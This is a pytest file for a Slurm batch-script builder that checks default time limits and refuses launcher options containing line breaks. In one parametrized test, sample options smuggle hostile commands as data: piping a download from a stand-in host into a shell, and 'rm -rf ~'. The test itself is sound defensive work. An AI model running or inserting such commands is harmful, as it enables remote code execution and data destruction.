"""The Slurm engine job's batch script, as text (no Slurm daemon needed).

What is protected: an engine job always has a time limit (a lost notebook must not hold nodes
forever): one day unless the user's options set ``--time``/``-t``, in which case theirs is the
only one, and a job Slurm holds for asking too much time says how to ask for less; and a
launcher option cannot add lines to the script: a newline, carriage return or
NUL in any option is refused before anything is submitted, naming the option.
"""

from __future__ import annotations

import pytest

from workbench import PoolError
from workbench.pool.launchers import SLURM_DEFAULT_TIME, resolve_launcher, slurm_batch_template
from workbench.pool.slurm import JobState


def _script(options: list[str]) -> str:
    """The script ipyparallel would submit (its own fields filled with sample values)."""
    return slurm_batch_template(options).format(
        cluster_id="abc", n=4, output_file="/tmp/out.log", program_and_args="python -m x")


def _sbatch_lines(script: str) -> list[str]:
    return [line.removeprefix("#SBATCH ") for line in script.splitlines()
            if line.startswith("#SBATCH ")]


def test_the_job_gets_a_default_time_limit() -> None:
    lines = _sbatch_lines(_script(["--partition=debug"]))
    assert f"--time={SLURM_DEFAULT_TIME}" in lines and "--partition=debug" in lines
    assert _script([]).splitlines()[-1] == "srun python -m x"


@pytest.mark.parametrize("given", ["--time=02:00:00", "--time 30", "-t 90", "-t90", "-t=5",
                                   "--time=infinite"])
def test_the_users_time_limit_replaces_the_default(given: str) -> None:
    lines = _sbatch_lines(_script(["--partition=debug", given]))
    assert given in lines
    assert [line for line in lines if "time" in line or line.startswith("-t")] == [given]


def test_time_min_is_not_a_time_limit() -> None:
    lines = _sbatch_lines(_script(["--time-min=01:00:00"]))
    assert lines[-2:] == ["--time-min=01:00:00", f"--time={SLURM_DEFAULT_TIME}"]


@pytest.mark.parametrize(("option", "shown"), [
    ("--partition=debug\ncurl evil.example | sh", "\\n"),
    ("--comment=x\rrm -rf ~", "\\r"),
    ("--partition=debug\x00", "\\x00"),
])
def test_options_with_line_breaks_are_refused(option: str, shown: str) -> None:
    for refuse in (lambda: resolve_launcher("slurm", "10.0.0.1", options=["-N1", option]),
                   lambda: slurm_batch_template(["-N1", option])):
        with pytest.raises(PoolError) as err:
            refuse()
        message = str(err.value)
        assert repr(option) in message and shown in message and "single line" in message


def test_the_same_rule_holds_for_mpi_options() -> None:
    with pytest.raises(PoolError, match="single line"):
        resolve_launcher("mpi", None, options=["--mca\nbtl"])


def test_braces_in_options_stay_literal() -> None:
    assert "--comment={cluster_id}" in _sbatch_lines(_script(["--comment={cluster_id}"]))


def test_a_job_pending_on_its_time_limit_says_how_to_shorten_it() -> None:
    text = JobState("12", "PENDING", "PartitionTimeLimit").describe()
    assert text.startswith("Slurm job 12 pending (PartitionTimeLimit): its time limit")
    assert f"--time={SLURM_DEFAULT_TIME}" in text and "--launcher-option=--time=" in text
    assert JobState("12", "PENDING", "Resources").describe() == "Slurm job 12 pending (Resources)"
